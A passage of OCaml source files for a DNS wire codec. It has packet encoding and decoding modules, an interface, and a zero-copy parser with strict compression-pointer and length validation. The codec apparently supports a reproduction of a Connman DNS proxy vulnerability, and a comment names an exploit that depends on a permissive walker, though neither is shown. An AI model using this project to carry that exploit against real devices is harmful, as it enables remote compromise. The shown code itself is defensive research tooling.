  | AAAA -> 28
  | Unknown n -> n

let qtype_of_code = function
  | 1 -> A
  | 2 -> NS
  | 5 -> CNAME
  | 12 -> PTR
  | 15 -> MX
  | 16 -> TXT
  | 28 -> AAAA
  | n -> Unknown n

let qtype_name = function
  | A -> "A"
  | NS -> "NS"
  | CNAME -> "CNAME"
  | PTR -> "PTR"
  | MX -> "MX"
  | TXT -> "TXT"
  | AAAA -> "AAAA"
  | Unknown n -> Printf.sprintf "TYPE%d" n

type rcode =
  | NoError
  | FormErr
  | ServFail
  | NXDomain
  | NotImp
  | Refused
  | Unknown_rcode of int

let rcode_code = function
  | NoError -> 0
  | FormErr -> 1
  | ServFail -> 2
  | NXDomain -> 3
  | NotImp -> 4
  | Refused -> 5
  | Unknown_rcode n -> n land 0xF

let rcode_of_code = function
  | 0 -> NoError
  | 1 -> FormErr
  | 2 -> ServFail
  | 3 -> NXDomain
  | 4 -> NotImp
  | 5 -> Refused
  | n -> Unknown_rcode (n land 0xF)

type header = {
  id : int;
  qr : bool;
  opcode : int;
  aa : bool;
  tc : bool;
  rd : bool;
  ra : bool;
  rcode : rcode;
}

type question = { qname : Name.t; qtype : qtype }
type rr = { rname : Name.t; rtype : qtype; ttl : int; rdata : string }

type t = {
  header : header;
  questions : question list;
  answers : rr list;
  authorities : rr list;
  additionals : rr list;
}

let query ~id ?(rd = true) qname qtype =
  {
    header =
      {
        id = id land 0xFFFF;
        qr = false;
        opcode = 0;
        aa = false;
        tc = false;
        rd;
        ra = false;
        rcode = NoError;
      };
    questions = [ { qname; qtype } ];
    answers = [];
    authorities = [];
    additionals = [];
  }

let response ~query answers =
  {
    header =
      { query.header with qr = true; ra = true; aa = false; rcode = NoError };
    questions = query.questions;
    answers;
    authorities = [];
    additionals = [];
  }

let a_record rname ~ttl ~ipv4 =
  let rdata =
    String.init 4 (fun i -> Char.chr ((ipv4 lsr (8 * (3 - i))) land 0xFF))
  in
  { rname; rtype = A; ttl; rdata }

let cname_record rname ~ttl ~target =
  { rname; rtype = CNAME; ttl; rdata = Name.encode target }

let cname_of_rdata rdata =
  match Name.decode rdata 0 with Ok (labels, _) -> Some labels | Error _ -> None

let ipv4_of_rdata rdata =
  if String.length rdata <> 4 then None
  else
    Some
      (List.fold_left
         (fun acc i -> (acc lsl 8) lor Char.code rdata.[i])
         0 [ 0; 1; 2; 3 ])

(* --- encoding (network byte order) --- *)

let flags_word h =
  ((if h.qr then 1 else 0) lsl 15)
  lor ((h.opcode land 0xF) lsl 11)
  lor ((if h.aa then 1 else 0) lsl 10)
  lor ((if h.tc then 1 else 0) lsl 9)
  lor ((if h.rd then 1 else 0) lsl 8)
  lor ((if h.ra then 1 else 0) lsl 7)
  lor rcode_code h.rcode

(* Section counts travel in u16 header fields; a list longer than 65535
   used to encode with a silently wrapped count (65537 answers -> count
   1), a parser/serializer mismatch no receiver can detect.  Refuse
   outright — such a message cannot be framed honestly. *)
let validate_counts t =
  let check what l =
    if List.length l > 0xFFFF then
      invalid_arg ("Dns.Packet.encode: " ^ what ^ " count exceeds 65535")
  in
  check "questions" t.questions;
  check "answers" t.answers;
  check "authorities" t.authorities;
  check "additionals" t.additionals

let add_question a ~compress q =
  Wire.add_name a ~compress q.qname;
  Wire.add_u16 a (qtype_code q.qtype);
  Wire.add_u16 a 1 (* IN *)

let add_rr a ~compress rr =
  Wire.add_name a ~compress rr.rname;
  Wire.add_u16 a (qtype_code rr.rtype);
  Wire.add_u16 a 1;
  Wire.add_u32 a rr.ttl;
  Wire.add_u16 a (String.length rr.rdata);
  Wire.add_string a rr.rdata

let encode_into ?(compress = true) a t =
  validate_counts t;
  Wire.reset a;
  Wire.add_u16 a t.header.id;
  Wire.add_u16 a (flags_word t.header);
  Wire.add_u16 a (List.length t.questions);
  Wire.add_u16 a (List.length t.answers);
  Wire.add_u16 a (List.length t.authorities);
  Wire.add_u16 a (List.length t.additionals);
  List.iter (add_question a ~compress) t.questions;
  List.iter (add_rr a ~compress) t.answers;
  List.iter (add_rr a ~compress) t.authorities;
  List.iter (add_rr a ~compress) t.additionals;
  if Wire.length a > 0xFFFF then
    invalid_arg "Dns.Packet.encode: message exceeds 65535 bytes"

let encode ?(compress = true) t =
  let a = Wire.arena () in
  encode_into ~compress a t;
  Wire.contents a

let truncated t =
  {
    t with
    header = { t.header with tc = true };
    answers = [];
    authorities = [];
    additionals = [];
  }

let encode_udp ?(compress = true) ?(payload_limit = 512) t =
  let a = Wire.arena () in
  encode_into ~compress a t;
  if Wire.length a <= payload_limit then Wire.contents a
  else begin
    (* Too big for the datagram: send an honest truncation — TC set,
       records dropped, counts reflecting what is actually present — so
       the client retries over TCP, instead of a silently clipped or
       count-lying message. *)
    encode_into ~compress a (truncated t);
    Wire.contents a
  end

(* --- decoding --- *)

(* Thin shim over the zero-copy view: validate/index with {!Wire.parse},
   then materialize the same lists the old decoder built.  Hot paths
   skip this and read the view directly. *)

let materialize_rdata msg v i =
  let rdata_off = Wire.rr_rdata v i and rdlen = Wire.rr_rdlen v i in
  if Wire.rtype_is_name (Wire.rr_rtype v i) then
    (* RFC 1035 §3.3: the RDATA of CNAME/NS/PTR is a domain name and may
       use compression pointers into the enclosing message.  A bare
       [String.sub] would orphan such pointers (they index the full
       message, not the rdata slice), so store the uncompressed wire
       form — consumers like [cname_of_rdata] then decode the slice in
       isolation correctly.  [parse] already validated the name. *)
    match Wire.name_labels msg rdata_off with
    | Ok (labels, _) -> Name.encode labels
    | Error e -> invalid_arg ("Dns.Packet.decode: " ^ e)
  else String.sub msg rdata_off rdlen

let materialize_rr msg v i =
  match Wire.name_labels msg (Wire.rr_name v i) with
  | Error e -> invalid_arg ("Dns.Packet.decode: " ^ e)
  | Ok (rname, _) ->
      {
        rname;
        rtype = qtype_of_code (Wire.rr_rtype v i);
        ttl = Wire.rr_ttl v i;
        rdata = materialize_rdata msg v i;
      }

let of_view v msg =
  let header =
    {
      id = Wire.id v;
      qr = Wire.qr v;
      opcode = Wire.opcode v;
      aa = Wire.aa v;
      tc = Wire.tc v;
      rd = Wire.rd v;
      ra = Wire.ra v;
      rcode = rcode_of_code (Wire.rcode v);
    }
  in
  let questions =
    List.init (Wire.qdcount v) (fun i ->
        match Wire.name_labels msg (Wire.question_name v i) with
        | Error e -> invalid_arg ("Dns.Packet.decode: " ^ e)
        | Ok (qname, _) ->
            { qname; qtype = qtype_of_code (Wire.question_qtype v i) })
  in
  let section lo n = List.init n (fun i -> materialize_rr msg v (lo + i)) in
  let an = Wire.ancount v and ns = Wire.nscount v in
  {
    header;
    questions;
    answers = section 0 an;
    authorities = section an ns;
    additionals = section (an + ns) (Wire.arcount v);
  }

let decode msg =
  let v = Wire.create_view () in
  match Wire.parse v msg with
  | Error _ as e -> e
  | Ok () -> Ok (of_view v msg)

let pp ppf t =
  let pp_q ppf q =
    Format.fprintf ppf "%s %s" (Name.to_string q.qname) (qtype_name q.qtype)
  in
  let pp_rr ppf rr =
    Format.fprintf ppf "%s %s ttl=%d rdlen=%d" (Name.to_string rr.rname)
      (qtype_name rr.rtype) rr.ttl (String.length rr.rdata)
  in
  Format.fprintf ppf "@[<v>id=0x%04x %s rcode=%d@,questions: %a@,answers: %a@]"
    t.header.id
    (if t.header.qr then "response" else "query")
    (rcode_code t.header.rcode)
    (Format.pp_print_list pp_q) t.questions (Format.pp_print_list pp_rr)
    t.answers
