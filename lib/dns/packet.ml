type qtype = A | AAAA | CNAME | NS | PTR | MX | TXT | Unknown of int

let qtype_code = function
  | A -> 1
  | NS -> 2
  | CNAME -> 5
  | PTR -> 12
  | MX -> 15
  | TXT -> 16
  | AAAA -> 28
  | Unknown n -> n

let qtype_of_code = function
  | 1 -> A
  | 2 -> NS
  | 5 -> CNAME
  | 12 -> PTR
  | 15 -> MX
  | 16 -> TXT
  | 28 -> AAAA
  | n -> Unknown n

let qtype_name = function
  | A -> "A"
  | NS -> "NS"
  | CNAME -> "CNAME"
  | PTR -> "PTR"
  | MX -> "MX"
  | TXT -> "TXT"
  | AAAA -> "AAAA"
  | Unknown n -> Printf.sprintf "TYPE%d" n

type rcode =
  | NoError
  | FormErr
  | ServFail
  | NXDomain
  | NotImp
  | Refused
  | Unknown_rcode of int

let rcode_code = function
  | NoError -> 0
  | FormErr -> 1
  | ServFail -> 2
  | NXDomain -> 3
  | NotImp -> 4
  | Refused -> 5
  | Unknown_rcode n -> n land 0xF

let rcode_of_code = function
  | 0 -> NoError
  | 1 -> FormErr
  | 2 -> ServFail
  | 3 -> NXDomain
  | 4 -> NotImp
  | 5 -> Refused
  | n -> Unknown_rcode (n land 0xF)

type header = {
  id : int;
  qr : bool;
  opcode : int;
  aa : bool;
  tc : bool;
  rd : bool;
  ra : bool;
  rcode : rcode;
}

type question = { qname : Name.t; qtype : qtype }
type rr = { rname : Name.t; rtype : qtype; ttl : int; rdata : string }

type t = {
  header : header;
  questions : question list;
  answers : rr list;
  authorities : rr list;
  additionals : rr list;
}

let query ~id ?(rd = true) qname qtype =
  {
    header =
      {
        id = id land 0xFFFF;
        qr = false;
        opcode = 0;
        aa = false;
        tc = false;
        rd;
        ra = false;
        rcode = NoError;
      };
    questions = [ { qname; qtype } ];
    answers = [];
    authorities = [];
    additionals = [];
  }

let response ~query answers =
  {
    header =
      { query.header with qr = true; ra = true; aa = false; rcode = NoError };
    questions = query.questions;
    answers;
    authorities = [];
    additionals = [];
  }

let a_record rname ~ttl ~ipv4 =
  let rdata =
    String.init 4 (fun i -> Char.chr ((ipv4 lsr (8 * (3 - i))) land 0xFF))
  in
  { rname; rtype = A; ttl; rdata }

let cname_record rname ~ttl ~target =
  { rname; rtype = CNAME; ttl; rdata = Name.encode target }

let cname_of_rdata rdata =
  match Name.decode rdata 0 with Ok (labels, _) -> Some labels | Error _ -> None

let ipv4_of_rdata rdata =
  if String.length rdata <> 4 then None
  else
    Some
      (List.fold_left
         (fun acc i -> (acc lsl 8) lor Char.code rdata.[i])
         0 [ 0; 1; 2; 3 ])

(* --- encoding (network byte order) --- *)

let add_u16 buf v =
  Buffer.add_char buf (Char.chr ((v lsr 8) land 0xFF));
  Buffer.add_char buf (Char.chr (v land 0xFF))

let add_u32 buf v =
  add_u16 buf ((v lsr 16) land 0xFFFF);
  add_u16 buf (v land 0xFFFF)

let flags_word h =
  ((if h.qr then 1 else 0) lsl 15)
  lor ((h.opcode land 0xF) lsl 11)
  lor ((if h.aa then 1 else 0) lsl 10)
  lor ((if h.tc then 1 else 0) lsl 9)
  lor ((if h.rd then 1 else 0) lsl 8)
  lor ((if h.ra then 1 else 0) lsl 7)
  lor rcode_code h.rcode

(* Name emission with optional compression: remember the offset of every
   name suffix already emitted and point at it on repetition. *)
let add_name buf ~compress seen labels =
  let rec go = function
    | [] -> Buffer.add_char buf '\x00'
    | _ :: rest as suffix -> (
        match if compress then Hashtbl.find_opt seen suffix else None with
        | Some off when off < 0x4000 -> add_u16 buf (0xC000 lor off)
        | _ ->
            if compress && Buffer.length buf < 0x4000 then
              Hashtbl.replace seen suffix (Buffer.length buf);
            let label = List.hd suffix in
            let n = String.length label in
            (* A length of 64..191 would collide with the reserved
               0x40/0x80 bit patterns (and >= 192 with compression
               pointers); >= 256 would crash [Char.chr] outright.
               Validate like {!Name.encode} instead of emitting an
               unparseable — or adversarially parseable — wire form. *)
            if n = 0 || n > 63 then
              invalid_arg
                ("Dns.Packet.encode: bad label length " ^ string_of_int n);
            Buffer.add_char buf (Char.chr n);
            Buffer.add_string buf label;
            go rest)
  in
  go labels

let add_question buf ~compress seen q =
  add_name buf ~compress seen q.qname;
  add_u16 buf (qtype_code q.qtype);
  add_u16 buf 1 (* IN *)

let add_rr buf ~compress seen rr =
  add_name buf ~compress seen rr.rname;
  add_u16 buf (qtype_code rr.rtype);
  add_u16 buf 1;
  add_u32 buf rr.ttl;
  add_u16 buf (String.length rr.rdata);
  Buffer.add_string buf rr.rdata

let encode ?(compress = true) t =
  let buf = Buffer.create 128 in
  let seen = Hashtbl.create 8 in
  add_u16 buf t.header.id;
  add_u16 buf (flags_word t.header);
  add_u16 buf (List.length t.questions);
  add_u16 buf (List.length t.answers);
  add_u16 buf (List.length t.authorities);
  add_u16 buf (List.length t.additionals);
  List.iter (add_question buf ~compress seen) t.questions;
  List.iter (add_rr buf ~compress seen) t.answers;
  List.iter (add_rr buf ~compress seen) t.authorities;
  List.iter (add_rr buf ~compress seen) t.additionals;
  Buffer.contents buf

(* --- decoding --- *)

let ( let* ) = Result.bind

let decode msg =
  let len = String.length msg in
  let u16 off =
    if off + 2 > len then Error "truncated"
    else Ok ((Char.code msg.[off] lsl 8) lor Char.code msg.[off + 1])
  in
  let u32 off =
    let* hi = u16 off in
    let* lo = u16 (off + 2) in
    Ok ((hi lsl 16) lor lo)
  in
  if len < 12 then Error "message shorter than header"
  else
    let* id = u16 0 in
    let* flags = u16 2 in
    let* qd = u16 4 in
    let* an = u16 6 in
    let* ns = u16 8 in
    let* ar = u16 10 in
    let header =
      {
        id;
        qr = (flags lsr 15) land 1 = 1;
        opcode = (flags lsr 11) land 0xF;
        aa = (flags lsr 10) land 1 = 1;
        tc = (flags lsr 9) land 1 = 1;
        rd = (flags lsr 8) land 1 = 1;
        ra = (flags lsr 7) land 1 = 1;
        rcode = rcode_of_code (flags land 0xF);
      }
    in
    let rec questions n off acc =
      if n = 0 then Ok (List.rev acc, off)
      else
        let* qname, used = Name.decode msg off in
        let* qt = u16 (off + used) in
        let* _qclass = u16 (off + used + 2) in
        questions (n - 1)
          (off + used + 4)
          ({ qname; qtype = qtype_of_code qt } :: acc)
    in
    let rec rrs n off acc =
      if n = 0 then Ok (List.rev acc, off)
      else
        let* rname, used = Name.decode msg off in
        let off = off + used in
        let* rt = u16 off in
        let* _class = u16 (off + 2) in
        let* ttl = u32 (off + 4) in
        let* rdlen = u16 (off + 8) in
        if off + 10 + rdlen > len then Error "truncated rdata"
        else
          let rtype = qtype_of_code rt in
          (* RFC 1035 §3.3: the RDATA of CNAME/NS/PTR is a domain name
             and may use compression pointers into the enclosing
             message.  A bare [String.sub] would orphan such pointers
             (they index the full message, not the rdata slice), so
             expand the name against [msg] here and store its
             uncompressed wire form — consumers like [cname_of_rdata]
             then decode the slice in isolation correctly. *)
          let* rdata =
            match rtype with
            | CNAME | NS | PTR ->
                let* labels, used = Name.decode msg (off + 10) in
                if used > rdlen then Error "rdata name overruns rdlen"
                else Ok (Name.encode labels)
            | _ -> Ok (String.sub msg (off + 10) rdlen)
          in
          rrs (n - 1)
            (off + 10 + rdlen)
            ({ rname; rtype; ttl; rdata } :: acc)
    in
    let* qs, off = questions qd 12 [] in
    let* answers, off = rrs an off [] in
    let* authorities, off = rrs ns off [] in
    let* additionals, _off = rrs ar off [] in
    Ok { header; questions = qs; answers; authorities; additionals }

let pp ppf t =
  let pp_q ppf q =
    Format.fprintf ppf "%s %s" (Name.to_string q.qname) (qtype_name q.qtype)
  in
  let pp_rr ppf rr =
    Format.fprintf ppf "%s %s ttl=%d rdlen=%d" (Name.to_string rr.rname)
      (qtype_name rr.rtype) rr.ttl (String.length rr.rdata)
  in
  Format.fprintf ppf "@[<v>id=0x%04x %s rcode=%d@,questions: %a@,answers: %a@]"
    t.header.id
    (if t.header.qr then "response" else "query")
    (rcode_code t.header.rcode)
    (Format.pp_print_list pp_q) t.questions (Format.pp_print_list pp_rr)
    t.answers
