(** DNS message wire codec (RFC 1035 §4).

    Covers what the reproduction needs end-to-end: queries from the
    Connman DNS proxy, legitimate responses from the resolver, and the
    decoded view Connman's host-side pre-validation checks before the
    vulnerable machine-code path runs. *)

type qtype = A | AAAA | CNAME | NS | PTR | MX | TXT | Unknown of int

val qtype_code : qtype -> int
val qtype_of_code : int -> qtype
val qtype_name : qtype -> string

type rcode =
  | NoError
  | FormErr
  | ServFail
  | NXDomain
  | NotImp
  | Refused
  | Unknown_rcode of int
      (** codes 6–15: unassigned/extended values, preserved verbatim so
          decode→encode round-trips the raw header bits *)

val rcode_code : rcode -> int
val rcode_of_code : int -> rcode

type header = {
  id : int;  (** 16-bit transaction id *)
  qr : bool;  (** false = query, true = response *)
  opcode : int;
  aa : bool;
  tc : bool;
  rd : bool;
  ra : bool;
  rcode : rcode;
}

type question = { qname : Name.t; qtype : qtype }

type rr = {
  rname : Name.t;
  rtype : qtype;
  ttl : int;
  rdata : string;  (** raw RDATA; 4 bytes for A, 16 for AAAA *)
}

type t = {
  header : header;
  questions : question list;
  answers : rr list;
  authorities : rr list;
  additionals : rr list;
}

val query : id:int -> ?rd:bool -> Name.t -> qtype -> t

val response : query:t -> rr list -> t
(** A well-formed answer to [query]: same id, question echoed, QR/RA set. *)

val a_record : Name.t -> ttl:int -> ipv4:int -> rr
(** [ipv4] as a 32-bit host-order integer. *)

val cname_record : Name.t -> ttl:int -> target:Name.t -> rr
(** RDATA is the (uncompressed) wire form of [target]. *)

val cname_of_rdata : string -> Name.t option

val ipv4_of_rdata : string -> int option

val validate_counts : t -> unit
(** Raises [Invalid_argument] if any section holds more than 65535
    entries — such a message cannot be framed honestly through the u16
    header count fields (it used to encode with a silently wrapped
    count). *)

val encode : ?compress:bool -> t -> string
(** [compress] (default true) uses compression pointers for repeated
    names, as real servers do.  Raises [Invalid_argument] if any label
    is empty or longer than 63 bytes (such a length byte would collide
    with the reserved/compression bit patterns on the wire), matching
    {!Name.encode}; if a section count exceeds 65535
    ({!validate_counts}); or if the encoded message exceeds 65535 bytes
    (unframeable over DNS transports). *)

val encode_into : ?compress:bool -> Wire.arena -> t -> unit
(** {!encode} into a caller-owned reusable arena (resets it first); the
    hot-path variant.  Read the bytes with {!Wire.contents} /
    {!Wire.unsafe_bytes}. *)

val encode_udp : ?compress:bool -> ?payload_limit:int -> t -> string
(** Datagram-honest encode: if the message exceeds [payload_limit]
    (default 512, the classic UDP DNS payload cap), re-encode with [tc]
    set and all record sections dropped — counts reflecting what is
    actually present — so the client retries over TCP. *)

val decode : string -> (t, string) result
(** Strict decode.  CNAME/NS/PTR rdata is expanded against the whole
    message (compression pointers inside rdata index the enclosing
    message) and stored in uncompressed wire form.  A thin shim over
    {!Wire.parse} + {!of_view}. *)

val of_view : Wire.view -> string -> t
(** Materialize a successfully parsed view of [msg] into lists.  Raises
    [Invalid_argument] if the view does not correspond to [msg]. *)

val pp : Format.formatter -> t -> unit
