(* Zero-copy DNS wire codec.

   Decoding produces a {!view}: a reusable record of packed [int] arrays
   holding the *offsets* of every question, record, and rdata slice
   inside the borrowed message string — no per-label [String.sub], no
   intermediate lists.  Steady-state, a reused view allocates nothing on
   the hot path beyond a handful of [result] cells.

   Encoding writes into a caller-supplied reusable {!arena}: a growable
   [Bytes] buffer plus a single-pass compression table that records the
   offset of every name suffix as it is written and emits a pointer on
   repetition.  The table's decisions reproduce the legacy
   [Buffer]/[Hashtbl] encoder byte-for-byte (see {!Legacy}), which the
   codec-differential fuzz mode enforces.

   Borrowing rules: a [view] borrows the string passed to {!parse} until
   the next [parse]; offsets returned by accessors index that string
   only.  An [arena]'s bytes are valid until the next [reset]/write;
   {!contents} copies them out. *)

(* {1 Unchecked byte accessors}

   Bounds are the caller's responsibility — [parse] and the walker
   validate every offset before these are used. *)

let get_u8 s off = Char.code (String.unsafe_get s off)
let get_u16 s off = (get_u8 s off lsl 8) lor get_u8 s (off + 1)
let get_u32 s off = (get_u16 s off lsl 16) lor get_u16 s (off + 2)

(* {1 Strict name walker}

   Mirrors the legacy strict walker's validation order exactly (so error
   classes agree under differential fuzzing), with one deliberate
   semantic change, shared with {!Name.decode} and {!Legacy}: a
   compression pointer must point *strictly backward*.  Each pointer's
   target must lie before the start of the walk so far (before the name
   itself for the first pointer, before the previous target after a
   jump), as real resolvers require — a chain of jumps is strictly
   decreasing, so termination needs no hop bound.  The permissive
   Connman-shaped walker in {!Name.expand_like_connman} is untouched:
   the Listing-1 exploit depends on its forward/self pointers. *)

(* The walker core returns the consumed count, or a negative error code
   (mapped to the shared error strings below) — no result boxing, no
   per-call closures, so validating a name allocates nothing.  Callers
   that want the [result] API go through {!walk}. *)
let e_ptr_loop = -1
let e_trunc_name = -2
let e_ptr_range = -3
let e_ptr_forward = -4
let e_label_len = -5
let e_trunc_label = -6
let e_expansion = -7

let walk_error = function
  | -1 -> "compression pointer loop"
  | -2 -> "truncated name"
  | -3 -> "pointer out of range"
  | -4 -> "forward compression pointer"
  | -5 -> "invalid label length"
  | -6 -> "truncated label"
  | -7 -> "name expansion too large"
  | _ -> "malformed name"

(* [bound]: every pointer target must be < bound; starts at the name's
   own offset and drops to each target after a jump. *)
let rec walk_go msg len off ~emit pos bound hops consumed_at_top jumped acc_len =
  if hops > len then e_ptr_loop
  else if pos < 0 || pos >= len then e_trunc_name
  else
    let b = get_u8 msg pos in
    if b = 0 then if jumped then consumed_at_top else pos + 1 - off
    else if b >= 0xC0 then
      if pos + 1 >= len then e_trunc_name
      else
        let target = ((b land 0x3F) lsl 8) lor get_u8 msg (pos + 1) in
        if target >= len then e_ptr_range
        else if target >= bound then e_ptr_forward
        else
          let consumed_at_top =
            if jumped then consumed_at_top else pos + 2 - off
          in
          walk_go msg len off ~emit target target (hops + 1) consumed_at_top
            true acc_len
    else if b > 63 then e_label_len
    else if pos + 1 + b > len then e_trunc_label
    else begin
      emit ~pos:(pos + 1) ~len:b;
      let acc_len = acc_len + 1 + b in
      if acc_len > 65536 then e_expansion
      else
        walk_go msg len off ~emit (pos + 1 + b) bound hops consumed_at_top
          jumped acc_len
    end

let noop_emit ~pos:_ ~len:_ = ()

let walk_raw msg off ~emit =
  walk_go msg (String.length msg) off ~emit off off 0 0 false 0

let skip_raw msg off = walk_raw msg off ~emit:noop_emit

let walk msg off ~emit =
  let r = walk_raw msg off ~emit in
  if r < 0 then Error (walk_error r) else Ok r

let skip_name msg off = walk msg off ~emit:noop_emit

(* {2 Name utilities over borrowed buffers} *)

let substring_eq msg pos label len =
  let rec eq i =
    i >= len || (String.unsafe_get msg (pos + i) = String.unsafe_get label i && eq (i + 1))
  in
  String.length label = len && eq 0

(* [name_equal_consumed msg off labels]: walk the wire name and compare
   it label-by-label against [labels] without materializing anything.
   Returns [Ok (equal, consumed)] or the walker's error. *)
let name_equal_consumed msg off labels =
  let remaining = ref labels in
  let matched = ref true in
  let emit ~pos ~len =
    match !remaining with
    | [] -> matched := false
    | l :: rest ->
        if substring_eq msg pos l len then remaining := rest else matched := false
  in
  match walk msg off ~emit with
  | Error _ as e -> e
  | Ok consumed -> Ok (!matched && !remaining = [], consumed)

let name_labels msg off =
  let acc = ref [] in
  let emit ~pos ~len = acc := String.sub msg pos len :: !acc in
  match walk msg off ~emit with
  | Error _ as e -> e
  | Ok consumed -> Ok (List.rev !acc, consumed)

(* Dotted rendering of a wire name.  Offsets are expected to come from a
   successfully parsed {!view}, so a malformed name here is a caller
   bug. *)
let name_to_string msg off =
  let buf = Buffer.create 32 in
  let emit ~pos ~len =
    if Buffer.length buf > 0 then Buffer.add_char buf '.';
    Buffer.add_substring buf msg pos len
  in
  match walk msg off ~emit with
  | Error e -> invalid_arg ("Dns.Wire.name_to_string: malformed name: " ^ e)
  | Ok _ -> if Buffer.length buf = 0 then "." else Buffer.contents buf

(* {1 Decoding: the reusable view} *)

(* Questions pack 2 ints per entry, resource records 5.  The arrays are
   grown geometrically and never shrunk, so a long-lived view reaches a
   steady state where [parse] allocates nothing for the message shapes
   it keeps seeing. *)

let q_stride = 2
let rr_stride = 5

type view = {
  mutable msg : string;  (* borrowed until the next [parse] *)
  mutable v_id : int;
  mutable v_flags : int;
  mutable v_qd : int;
  mutable v_an : int;
  mutable v_ns : int;
  mutable v_ar : int;
  mutable qs : int array;  (* per question: name_off, qtype code *)
  mutable n_qs : int;
  mutable rrs : int array;  (* per RR: name_off, rtype, ttl, rdlen, rdata_off *)
  mutable n_rrs : int;  (* answers, authorities, additionals — wire order *)
}

let create_view () =
  {
    msg = "";
    v_id = 0;
    v_flags = 0;
    v_qd = 0;
    v_an = 0;
    v_ns = 0;
    v_ar = 0;
    qs = Array.make (4 * q_stride) 0;
    n_qs = 0;
    rrs = Array.make (8 * rr_stride) 0;
    n_rrs = 0;
  }

let grow a needed =
  let cap = Array.length a in
  if needed <= cap then a
  else begin
    let bigger = Array.make (max needed (2 * cap)) 0 in
    Array.blit a 0 bigger 0 cap;
    bigger
  end

let push_q v name_off qtype =
  let base = v.n_qs * q_stride in
  v.qs <- grow v.qs (base + q_stride);
  v.qs.(base) <- name_off;
  v.qs.(base + 1) <- qtype;
  v.n_qs <- v.n_qs + 1

let push_rr v name_off rtype ttl rdlen rdata_off =
  let base = v.n_rrs * rr_stride in
  v.rrs <- grow v.rrs (base + rr_stride);
  v.rrs.(base) <- name_off;
  v.rrs.(base + 1) <- rtype;
  v.rrs.(base + 2) <- ttl;
  v.rrs.(base + 3) <- rdlen;
  v.rrs.(base + 4) <- rdata_off;
  v.n_rrs <- v.n_rrs + 1

(* RDATA of these types is a (possibly compressed) domain name; decoding
   must validate it against the whole message, exactly as the legacy
   decoder does. *)
let rtype_is_name rt = rt = 2 (* NS *) || rt = 5 (* CNAME *) || rt = 12 (* PTR *)

(* Parsing follows the same no-allocation discipline as the walker:
   the section loops return the next offset or a negative error code. *)
let e_trunc = -8
let e_trunc_rdata = -9
let e_rdata_overrun = -10

let parse_error = function
  | -8 -> "truncated"
  | -9 -> "truncated rdata"
  | -10 -> "rdata name overruns rdlen"
  | e -> walk_error e

let rec p_questions v msg len n off =
  if n = 0 then off
  else
    let used = skip_raw msg off in
    if used < 0 then used
    else if off + used + 4 > len then e_trunc
    else begin
      push_q v off (get_u16 msg (off + used));
      p_questions v msg len (n - 1) (off + used + 4)
    end

let rec p_rrs v msg len n off =
  if n = 0 then off
  else
    let used = skip_raw msg off in
    if used < 0 then used
    else
      let name_off = off in
      let off = off + used in
      if off + 10 > len then e_trunc
      else
        let rt = get_u16 msg off in
        let ttl = get_u32 msg (off + 4) in
        let rdlen = get_u16 msg (off + 8) in
        if off + 10 + rdlen > len then e_trunc_rdata
        else
          let rd_err =
            if rtype_is_name rt then
              let used = skip_raw msg (off + 10) in
              if used < 0 then used
              else if used > rdlen then e_rdata_overrun
              else 0
            else 0
          in
          if rd_err < 0 then rd_err
          else begin
            push_rr v name_off rt ttl rdlen (off + 10);
            p_rrs v msg len (n - 1) (off + 10 + rdlen)
          end

let ok_unit : (unit, string) result = Ok ()

let parse v msg =
  let len = String.length msg in
  if len < 12 then Error "message shorter than header"
  else begin
    v.msg <- msg;
    v.v_id <- get_u16 msg 0;
    v.v_flags <- get_u16 msg 2;
    v.v_qd <- get_u16 msg 4;
    v.v_an <- get_u16 msg 6;
    v.v_ns <- get_u16 msg 8;
    v.v_ar <- get_u16 msg 10;
    v.n_qs <- 0;
    v.n_rrs <- 0;
    let off = p_questions v msg len v.v_qd 12 in
    let off = if off < 0 then off else p_rrs v msg len v.v_an off in
    let off = if off < 0 then off else p_rrs v msg len v.v_ns off in
    let off = if off < 0 then off else p_rrs v msg len v.v_ar off in
    if off < 0 then Error (parse_error off) else ok_unit
  end

(* {2 View accessors} *)

let id v = v.v_id
let flags v = v.v_flags
let qr v = (v.v_flags lsr 15) land 1 = 1
let opcode v = (v.v_flags lsr 11) land 0xF
let aa v = (v.v_flags lsr 10) land 1 = 1
let tc v = (v.v_flags lsr 9) land 1 = 1
let rd v = (v.v_flags lsr 8) land 1 = 1
let ra v = (v.v_flags lsr 7) land 1 = 1
let rcode v = v.v_flags land 0xF
let qdcount v = v.v_qd
let ancount v = v.v_an
let nscount v = v.v_ns
let arcount v = v.v_ar
let question_name v i = v.qs.(i * q_stride)
let question_qtype v i = v.qs.((i * q_stride) + 1)

(* RRs are indexed 0 .. an+ns+ar-1 in wire order; [answer i] is just
   index [i], authorities start at [ancount], additionals after. *)
let rr_name v i = v.rrs.(i * rr_stride)
let rr_rtype v i = v.rrs.((i * rr_stride) + 1)
let rr_ttl v i = v.rrs.((i * rr_stride) + 2)
let rr_rdlen v i = v.rrs.((i * rr_stride) + 3)
let rr_rdata v i = v.rrs.((i * rr_stride) + 4)
let rr_count v = v.n_rrs

(* {1 Encoding: the reusable arena} *)

type arena = {
  mutable out : Bytes.t;
  mutable pos : int;
  (* Compression table: offsets (always < 0x4000) at which a name suffix
     was written.  Suffixes are compared by re-reading the output buffer
     (following pointers), so the table itself is just ints. *)
  mutable noffs : int array;
  mutable n_noffs : int;
}

let arena ?(capacity = 512) () =
  { out = Bytes.create (max 16 capacity); pos = 0; noffs = Array.make 16 0; n_noffs = 0 }

let reset a =
  a.pos <- 0;
  a.n_noffs <- 0

let length a = a.pos
let contents a = Bytes.sub_string a.out 0 a.pos
let unsafe_bytes a = a.out

let ensure a extra =
  let needed = a.pos + extra in
  let cap = Bytes.length a.out in
  if needed > cap then begin
    let bigger = Bytes.create (max needed (2 * cap)) in
    Bytes.blit a.out 0 bigger 0 a.pos;
    a.out <- bigger
  end

let add_u8 a v =
  ensure a 1;
  Bytes.unsafe_set a.out a.pos (Char.unsafe_chr (v land 0xFF));
  a.pos <- a.pos + 1

let add_u16 a v =
  ensure a 2;
  Bytes.unsafe_set a.out a.pos (Char.unsafe_chr ((v lsr 8) land 0xFF));
  Bytes.unsafe_set a.out (a.pos + 1) (Char.unsafe_chr (v land 0xFF));
  a.pos <- a.pos + 2

let add_u32 a v =
  add_u16 a ((v lsr 16) land 0xFFFF);
  add_u16 a (v land 0xFFFF)

let add_string a s =
  let n = String.length s in
  ensure a n;
  Bytes.blit_string s 0 a.out a.pos n;
  a.pos <- a.pos + n

let add_substring a s off len =
  ensure a len;
  Bytes.blit_string s off a.out a.pos len;
  a.pos <- a.pos + len

(* Does the (already written) name at [off] — following pointers — spell
